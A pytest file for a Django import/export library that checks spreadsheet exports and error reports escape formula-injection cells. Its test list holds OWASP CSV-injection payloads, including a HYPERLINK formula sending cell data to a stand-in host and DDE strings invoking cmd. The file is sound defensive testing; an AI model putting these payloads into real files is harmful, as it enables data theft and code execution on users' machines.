"""Formula injection: exported cells a spreadsheet would run are escaped in
every spreadsheet format, through the REST API, and in the error report."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest
import tablib
import yaml
from django.test import override_settings
from openpyxl import load_workbook

from drf_import_export_jobs import tasks
from drf_import_export_jobs.models import ExportJob
from drf_import_export_jobs.pipeline.escaping import escape_cell
from drf_import_export_jobs.pipeline.imports.results import ResultCollector
from tests.testapp.models import Author, Book

pytestmark = pytest.mark.usefixtures("empty_job_storage")

URL = "/api/books/exports/"
# Cell text that a spreadsheet program would run, per OWASP's CSV injection list.
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Text left alone: numbers, and text not starting with a trigger character.
HARMLESS = ["-5.00", "+12", "1=1", "a+b", "'=already quoted", "#N/A"]


@pytest.fixture
def books(db: Any) -> list[Book]:
    author = Author.objects.create(name="Ann")
    return [
        Book.objects.create(
            isbn=f"{i:03d}", title="T", author=author, price=Decimal(1), description=text
        )
        for i, text in enumerate(DANGEROUS + HARMLESS)
    ]


def export_through_the_api(api: Any, file_format: str) -> bytes:
    response = api.post(
        URL, {"file_format": file_format, "fields": ["isbn", "description"]}, format="json"
    )
    assert response.status_code == 201, response.content
    job = ExportJob.objects.get(pk=response.json()["id"])
    tasks.export_job_data.apply(args=[job._meta.label, job.pk], task_id=job.export_task_id)
    download = api.get(f"{URL}{job.pk}/download/")
    assert download.status_code == 200, download.content
    return b"".join(download.streaming_content)


def descriptions(data: bytes, file_format: str) -> list[Any]:
    if file_format in ("csv", "tsv"):
        delimiter = "\t" if file_format == "tsv" else ","
        rows = list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))
        return [row[1] for row in rows[1:]]
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).active
        cells = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells)  # never a formula cell
        return [_cr(cell.value) for cell in cells]
    if file_format == "ods":
        return [_cr(v) for v in tablib.Dataset().load(data, format="ods")["description"]]
    if file_format == "json":
        return [row["description"] for row in json.loads(data)]
    return [row["description"] for row in yaml.safe_load(data)]


def _cr(value: str) -> str:
    """XML formats read a carriage return back as a line feed."""
    return value[:2].replace("\n", "\r") + value[2:]


@pytest.mark.parametrize("file_format", ["csv", "tsv", "xlsx", "ods"])
def test_spreadsheet_exports_escape_formulas_by_default(api, books, file_format):
    cells = descriptions(export_through_the_api(api, file_format), file_format)
    assert cells[: len(DANGEROUS)] == ["'" + text for text in DANGEROUS]
    assert cells[len(DANGEROUS) :] == HARMLESS


@pytest.mark.parametrize("file_format", ["json", "yaml"])
def test_data_formats_are_written_unchanged(api, books, file_format):
    cells = descriptions(export_through_the_api(api, file_format), file_format)
    assert cells == DANGEROUS + HARMLESS


@override_settings(DRF_IMPORT_EXPORT_JOBS={"ESCAPE_FORMULAS": False})
@pytest.mark.parametrize("file_format", ["csv", "tsv", "xlsx", "ods"])
def test_escaping_can_be_switched_off(api, books, file_format):
    """Off, the text is written as it is stored; XLSX still stores it as text,
    never as a formula cell (checked in ``descriptions``)."""
    cells = descriptions(export_through_the_api(api, file_format), file_format)
    assert cells == DANGEROUS + HARMLESS


def test_the_error_report_is_escaped_and_the_errors_route_shows_the_text():
    collector = ResultCollector()
    for number, text in enumerate(DANGEROUS, start=1):
        collector.add_error(number, text, text)
    report = collector.report_file()
    assert report is not None
    rows = list(csv.reader(report))
    collector.close()
    assert rows[0] == ["row", "field", "message"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in DANGEROUS]
    assert [row[2] for row in rows[1:]] == ["'" + text for text in DANGEROUS]
    # The JSON results keep the original text (JSON is data, not a sheet).
    assert [e["message"] for e in collector.as_dict()["errors"]] == DANGEROUS


def test_errors_route_csv_is_escaped_and_json_is_not(api, user):
    from django.core.files.base import ContentFile

    from drf_import_export_jobs.models import ImportJob
    from tests.conftest import BOOK_RESOURCE

    collector = ResultCollector()
    collector.add_error(1, "price", "=1+1")
    report = collector.report_file()
    assert report is not None
    job = ImportJob(resource_path=BOOK_RESOURCE, file_format_name="csv", created_by=user)
    job.data_file.save("u.csv", ContentFile(b"isbn\n1\n"), save=False)
    job.error_report.save("r.csv", ContentFile(report.read().encode()), save=False)
    collector.close()
    job.parse_result = {"totals": {}, "rows": 1, "error_count": 1, "errors": []}
    job.save()
    ImportJob.objects.filter(pk=job.pk).update(status="input_error")
    url = f"/api/books/imports/{job.pk}/errors/"
    as_csv = b"".join(api.get(url + "file/").streaming_content).decode()
    assert as_csv.splitlines()[1] == "1,price,'=1+1"
    assert api.get(url).json()["results"] == [{"row": 1, "field": "price", "message": "=1+1"}]


@pytest.mark.parametrize("text", DANGEROUS)
def test_escape_cell_quotes_every_trigger(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, 5, -5, None, 1.5, ""])
def test_escape_cell_leaves_the_rest(value):
    assert escape_cell(value) == value
